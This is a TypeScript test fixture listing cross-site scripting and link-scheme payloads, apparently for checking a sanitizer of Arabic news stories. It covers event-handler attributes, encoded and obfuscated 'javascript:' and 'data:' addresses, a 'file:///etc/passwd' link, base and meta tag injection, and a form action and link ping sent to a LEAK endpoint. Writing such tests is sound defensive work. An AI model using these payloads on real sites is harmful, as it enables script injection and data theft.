import { inBody, LEAK, RUN, type Family } from './attack.ts';

const events = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onblur',
  'onanimationstart',
  'onanimationend',
  'ontransitionend',
  'onpointerenter',
  'onpointerrawupdate',
  'ontoggle',
  'onbeforetoggle',
  'onscrollend',
  'oncontentvisibilityautostatechange',
  'onbeforematch',
  'onwheel',
  'oncopy',
  'onbeforecopy',
  'onselectstart',
];

const addresses: Record<string, string> = {
  javascript: `javascript:${RUN}`,
  'javascript in capitals': `JaVaScRiPt:${RUN}`,
  'javascript after a space': `  javascript:${RUN}`,
  'javascript after a control': `&#1;javascript:${RUN}`,
  'javascript with a tab': `java&#9;script:${RUN}`,
  'javascript with a line feed': `java&#10;script:${RUN}`,
  'javascript with a return': `java&#13;script:${RUN}`,
  'javascript with a tab by name': `java&Tab;script:${RUN}`,
  'javascript with its colon by name': `javascript&colon;${RUN}`,
  'javascript by numbers': `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  'javascript with a comment like an address': `javascript://127.0.0.1/%0a${RUN}`,
  vbscript: `vbscript:${RUN}`,
  'data of HTML': `data:text/html,<script>${RUN}</script>`,
  'data of HTML, base 64': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data of SVG': "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='1'/>",
  blob: 'blob:http://127.0.0.1/6ef2ac15-5d4f-4a3c-9f2b-3b1f61b3a9cc',
  'view-source': 'view-source:javascript:1',
  filesystem: 'filesystem:http://127.0.0.1/temporary/x.html',
  'file of the machine': 'file:///etc/passwd',
  'extension page': 'chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/src/options/options.html',
  'page of the browser': 'about:blank#x',
  intent: 'intent://x#Intent;scheme=http;end',
  telephone: 'tel:+96100000',
};

const quoted = (markup: string): string => markup.replaceAll('"', '&quot;');

/** Handlers on what a story is made of: nothing but text and checked addresses may come of them. */
export const handlers: Family = {
  name: 'event handlers',
  attacks: [
    ...inBody(
      Object.fromEntries(
        events.map((event) => [event, `<b tabindex="0" ${event}="${RUN}">كلمة في السطر</b>`]),
      ),
    ),
    ...inBody({
      'picture that fails': `<img src="/missing-1.png" width="400" height="300" alt="صورة" onerror="${RUN}">`,
      'picture without quotes': `<img src=/missing-2.png width=400 height=300 onerror=${RUN}>`,
      'alternative text that ends its quotes': `<img src="/missing-3.png" width="400" height="300" alt='"><img src=x onerror="${RUN}">'>`,
      'markup as text': `&lt;img src=x onerror="${RUN}"&gt; &lt;script&gt;${RUN}&lt;/script&gt;`,
      'markup as text, twice': `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
      'script beside the text': `<script>0</script>`,
      details: `<details open ontoggle="${RUN}"><summary>تفاصيل</summary>نص</details>`,
      video: `<video src="/missing.mp4" onerror="${RUN}"></video>`,
      'source of a video': `<video><source src="/missing.mp4" onerror="${RUN}"></video>`,
      audio: `<audio src="/missing.mp3" onerror="${RUN}"></audio>`,
      object: `<object data="/missing" onerror="${RUN}"></object>`,
      'body in a body': `<body onload="${RUN}">`,
      marquee: `<marquee onstart="${RUN}" loop="1">نص يتحرك</marquee>`,
    }),
  ],
};

/** Addresses that run, or that lead where no page may lead. */
export const links: Family = {
  name: 'addresses of links',
  attacks: Object.entries(addresses).map(([name, address]) => ({
    name: `link: ${name}`,
    body: `وذكر <a href="${quoted(address)}">رابط</a> في الخبر.`,
  })),
};

/** The same as pictures that a script of the page would load later. */
export const pictures: Family = {
  name: 'addresses of pictures',
  attacks: Object.entries(addresses).map(([name, address]) => ({
    name: `picture: ${name}`,
    body: `<img data-src="${quoted(address)}" width="400" height="300" alt="صورة">`,
  })),
};

/** Markup that says where forms, links and the page itself go. */
export const places: Family = {
  name: 'places to go',
  attacks: [
    ...inBody({
      'form to elsewhere': `<form action="${LEAK}/form"><input name="q" value="x"><button>أرسل</button></form>`,
      'button of a form outside': `<button form="nowhere" formaction="javascript:${RUN}">اضغط</button>`,
      'link into a frame': '<a href="/story-2" target="_parent">خبر آخر</a>',
      'link into the opener': '<a href="/story-2" target="_top" rel="opener">خبر ثالث</a>',
      'link that calls home': `<a href="/story-3" ping="${LEAK}/ping">خبر رابع</a>`,
      'link that saves': '<a href="/story-4" download="x.exe">ملف</a>',
      'frame with markup': `<iframe srcdoc="<script>0</script><p>نص في إطار</p>"></iframe>`,
      'map of a picture': `<map name="m"><area href="javascript:${RUN}" shape="default"></map>`,
      'link with a base of its own': '<a href="//127.0.0.1:1/x" id="base">رابط</a>',
    }),
    { name: 'base with script', head: `<base href="javascript:${RUN}//" target="_blank">` },
    { name: 'canonical with script', head: `<link rel="canonical" href="javascript:${RUN}">` },
    {
      name: 'address told with script',
      head: `<meta property="og:url" content="javascript:${RUN}">`,
    },
    {
      name: 'picture told with script',
      head: `<meta property="og:image" content="javascript:${RUN}">`,
    },
    { name: 'refresh far away', head: '<meta http-equiv="refresh" content="9999;url=/elsewhere">' },
    { name: 'prefetch', head: `<link rel="prefetch" href="/own/prefetch">` },
    { name: 'preload', head: `<link rel="preload" as="image" href="/own/preload">` },
    { name: 'preconnect', head: '<link rel="preconnect" href="http://127.0.0.1:1">' },
    { name: 'dns-prefetch', head: '<link rel="dns-prefetch" href="//leak.invalid">' },
    {
      name: 'data of the page that close their script',
      head: '<script type="application/ld+json">{"@type":"NewsArticle","url":"javascript:1","image":"data:text/html,x","author":{"name":"<img src=x onerror=1>"}}</script>',
    },
  ],
};
